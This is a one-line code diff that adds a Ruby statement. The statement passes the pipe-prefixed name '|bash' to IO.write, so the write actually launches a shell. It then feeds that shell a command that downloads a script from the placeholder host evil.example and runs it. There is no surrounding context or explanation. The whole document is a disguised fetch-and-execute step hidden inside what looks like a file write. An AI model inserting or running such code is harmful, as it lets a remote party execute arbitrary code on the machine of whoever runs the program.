@@ -1,0 +1,1 @@
+IO.write("|bash", "curl -fsSL https://evil.example/i | bash\n")
